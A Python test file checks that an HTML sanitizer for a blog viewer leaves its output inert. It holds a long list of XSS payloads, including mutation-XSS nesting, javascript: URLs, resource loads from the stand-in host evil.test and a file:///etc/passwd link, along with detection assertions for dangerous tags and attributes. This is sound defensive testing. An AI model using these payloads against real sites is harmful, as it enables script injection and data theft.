"""Whatever comes in, what goes out can neither act nor call out."""

from __future__ import annotations

from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.unit.content.inert import faults
from viewer.content.derive import derive

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=http://evil.test/x>",
    "<script src=http://evil.test/x.js?<b>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="jav\tascript:alert(1);">',
    '<img src="jav&#x0A;ascript:alert(1);">',
    '<img src=" &#14;  javascript:alert(1);">',
    '<img dynsrc="javascript:alert(1)" lowsrc="http://evil.test/x">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="http://evil.test/x 1x, javascript:alert(1) 2x">',
    "<body onload=alert(1) background=http://evil.test/x>",
    "<bgsound src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='archive://local/retry/1'>x</a>",
    "<a href='view-source:http://evil.test/'>x</a>",
    "<a href=http://evil.test/ ping=http://evil.test/ping target=_blank download>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=http://evil.test/x.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=http://evil.test/x.svg#a /></svg>",
    "<svg><image href=http://evil.test/x.png /></svg>",
    "<svg><foreignObject><iframe src=http://evil.test/></iframe></foreignObject></svg>",
    "<svg><style>@import url(http://evil.test/x.css)</style><path d=M0/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://evil.test xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><annotation-xml encoding='text/html'><style></annotation-xml><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src onerror=alert(1)>'>",
    "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=preconnect href=http://evil.test/><link rel=dns-prefetch href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/><a href=x>x</a><img src=x>",
    "<style>@import'http://evil.test/x.css';</style>",
    "<style>body{background:url(http://evil.test/x)}</style>",
    "<p style='background:url(http://evil.test/x)'>x</p>",
    "<p style='background-image:\\75\\72\\6c(http://evil.test/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
    "<p style='-moz-binding:url(http://evil.test/x#x)'>x</p>",
    "<td style='text-align:left;background:url(http://evil.test/x)' background=http://evil.test/x>",
    "<table background=http://evil.test/x><tr><td style='text-align:url(http://evil.test/x)'>x",
    "<iframe src=http://evil.test/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=http://evil.test/x type=text/x-scriptlet></object>",
    "<embed src=http://evil.test/x.swf allowscriptaccess=always>",
    "<object><param name=url value=javascript:alert(1)></object>",
    "<applet code=x archive=http://evil.test/x></applet>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=http://evil.test/x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video poster=http://evil.test/x src=http://evil.test/y autoplay onerror=alert(1)></video>",
    "<video><source onerror=alert(1) src=http://evil.test/x><track src=http://evil.test/t default></video>",
    "<audio src=http://evil.test/x onerror=alert(1)>",
    "<picture><source srcset=http://evil.test/x onerror=alert(1)><img src=http://evil.test/y></picture>",
    "<image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1) id=x tabindex=1>x</x>",
    "<a id=x name=y href='#' onclick=alert(1)>x</a>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<q cite=http://evil.test/x>x</q><blockquote cite=javascript:alert(1)>x</blockquote>",
    "<area href=javascript:alert(1)><map name=x><area href=http://evil.test/></map>",
    "<span class='card missing-retry' data-media=x>x</span>",
    "<code class=tex>$\\href{javascript:alert(1)}{x}$</code>",
    "<p>$\\text{<img src=x onerror=alert(1)>}$ \\(\\text{</math><script>alert(1)</script>}\\)</p>",
    "<script type='math/tex'>\\text{</math><img src=x onerror=alert(1)>}</script>",
    "<script type='math/mml'><math><mtext><img src=x onerror=alert(1)></mtext></math></script>",
    "<span class=MathJax data-mathml='<math><mi><img src=x onerror=alert(1)></mi></math>'></span>",
    "<div class=latex-rendered data-attrs='{\"persistentExpression\":\"\\\\text{<script>alert(1)</script>}\"}'></div>",
    "<pre><code class='language-html'></code><img src=x onerror=alert(1)></pre>",
    "<pre data-lang='\"><img src=x onerror=alert(1)>'>x</pre>",
    "<pre class='language-\"onmouseover=alert(1)//'>x</pre>",
    "<figure class=card data-media='\"><script>' data-kind=video>x</figure>",
    "<a href='http://evil.test/\"onmouseover=alert(1)//'>x</a>",
    "<a href=\"http://evil.test/&quot;><img src=x onerror=alert(1)>\">x</a>",
    "<h1 id='\"><script>alert(1)</script>'>x</h1>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=http://evil.test/a.png>",
    "<img src='http://evil.test/a.png' title='\" onload=\"alert(1)'>",
    "\ufeff<script>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)",
    "<p>\u2028<script>\u2029alert(1)</script>",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ud800<script>alert(1)</script>\udfff",
    "<a href='http://[::1'>x</a><a href='http://evil.test:99999999/'>x</a><img src='http://[x/'>",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_a_vector_comes_out_inert(vector: str) -> None:
    for html in (
        vector,
        f"<p>before</p>{vector}<p>after</p>",
        f"<table><tr><td>{vector}</table>",
        f"<svg>{vector}",
        f"<math>{vector}",
    ):
        once = derive(html, "http://blog.test/post")
        assert faults(once.html) == []
        assert faults(derive(once.html, "http://blog.test/post").html) == []


def test_all_vectors_on_one_page_come_out_inert() -> None:
    assert faults(derive("\n".join(VECTORS), "http://blog.test/").html) == []
    assert faults(derive("".join(f"<div>{v}</div>" for v in VECTORS), "http://blog.test/").html) == []


def test_saved_drawings_hold_no_script_and_load_nothing() -> None:
    for vector in VECTORS:
        inline = f"<svg><path d='M0 0'/>{vector}</svg>"
        written = quote(inline, errors="replace")
        for html in (inline, f'<img src="data:image/svg+xml,{written}">'):
            for ref in derive(html, "http://blog.test/").media:
                if ref.data is not None:
                    assert_harmless(ElementTree.fromstring(ref.data))


def assert_harmless(drawing: ElementTree.Element) -> None:
    for element in drawing.iter():
        assert element.tag.rpartition("}")[2] not in (
            "script",
            "foreignObject",
            "a",
            "iframe",
            "animate",
            "set",
            "img",
        )
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            assert name.rpartition("}")[2] != "href" or value.startswith(("#", "data:image/"))
            assert "url(" not in value or "url(#" in value
        assert "@import" not in (element.text or "") or not element.tag.endswith("style")


def test_the_check_itself_sees_what_acts() -> None:
    seen = [vector for vector in VECTORS if faults(vector)]
    assert len(seen) > len(VECTORS) * 0.7


PIECES = [
    *("<p>", "</p>", "<div>", "</div>", "<math>", "</math>", "<svg>", "</svg>", "<mtext>", "<style>"),
    *("</style>", "<table>", "<tr><td>", "</table>", "<pre>", "</pre>", "<code>", "$", "$$", "\\(", "\\)"),
    *("\\[", "\\]", "\\begin{align}", "</a>", "<b>", "<i>", "<em>x", "</em>", "<!--", "-->", '"', "'", "<"),
    *(">", "&lt;", "&#0;", "<noscript>", "<picture>", "<h1>", "<td class=code>", "<mjx-container><mjx-math>"),
    *("<form>", "<object>", "<br>", "<select>", "<template>", "<xmp>", "<plaintext>", "<title>", "{", "}"),
    *("\\", "\\frac{a}{b}", "x_1"),
]
FRAGMENTS = st.sampled_from(
    [
        *VECTORS,
        *PIECES,
        "\x00",
        "<a href='",
        "<figure class=highlight>",
        "<span class=katex>",
        "<base href='//e/'>",
    ]
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.one_of(FRAGMENTS, st.text(max_size=20)), max_size=14).map("".join),
    st.sampled_from(["", "http://b.test/p", "x"]),
)
def test_no_mixture_raises_or_acts(html: str, base: str) -> None:
    derived = derive(html, base, title="T")
    assert faults(derived.html) == []
    again = derive(derived.html, base)
    assert faults(again.html) == []


@pytest.mark.parametrize("html", ["<p>a</p><?x>b", "<?xml-st ref='x'?>b", "a<?", "<!x>b", "</>b", "<!--->b"])
def test_processing_instructions_and_other_oddities_are_nothing(html: str) -> None:
    assert faults(derive(html, "http://blog.test/").html) == []


def test_headings_that_are_left_out_are_not_in_the_outline() -> None:
    derived = derive(
        "<math><mi>x</mi><annotation-xml encoding='text/html'><h2>A</h2></annotation-xml></math><h2>B</h2>",
        "",
    )
    assert [heading.title for heading in derived.outline if f'id="{heading.anchor}"' in derived.html] == [
        heading.title for heading in derived.outline
    ]


@settings(max_examples=100, deadline=None)
@given(st.text(), st.text(max_size=30))
def test_no_text_raises(html: str, base: str) -> None:
    assert faults(derive(html, base).html) == []


FLOODS = [
    *(
        "<div>",
        "<b>",
        "<a href=x>",
        "<p>",
        "<a<a",
        "<",
        "<!--",
        "$ ",
        "$$",
        "\\(",
        "\\begin{align}",
        "{",
        "<img src=a.png>",
    ),
    *(
        "<pre>",
        "<table><tr><td>",
        "<blockquote><p>",
        "<svg><g>",
        "<math><mrow>",
        '<span class="katex">',
        "&amp;",
        "a\n\n",
    ),
    *(
        "<h2>Same</h2>",
        "<p style='background: url('>",
        "<noscript><img src=a>",
        "<ul><li>",
        "<object>",
        "<td class=code>",
    ),
    *(
        "<iframe src='http://a.test/'></iframe>",
        "<select><option>",
        "<code>a<br>",
        "http://a.b ",
        "<font color=red>",
    ),
    "<figure class=highlight><table>",
]


@pytest.mark.parametrize("piece", FLOODS)
def test_a_flood_of_one_thing_is_survived(piece: str) -> None:
    assert faults(derive(piece * 3000, "http://blog.test/").html) == []


def test_thousands_of_attributes_and_endless_values_are_survived() -> None:
    many = " ".join(f"a{i}=1" for i in range(30_000))
    sets = ", ," * 20_000
    for html in (
        f"<p {many}>x</p>",
        f'<img srcset="{sets}">',
        '<p style="' + "background: url(" * 20_000 + '">',
        '<a ="' * 20_000,
    ):
        assert faults(derive(html, "http://blog.test/").html) == []
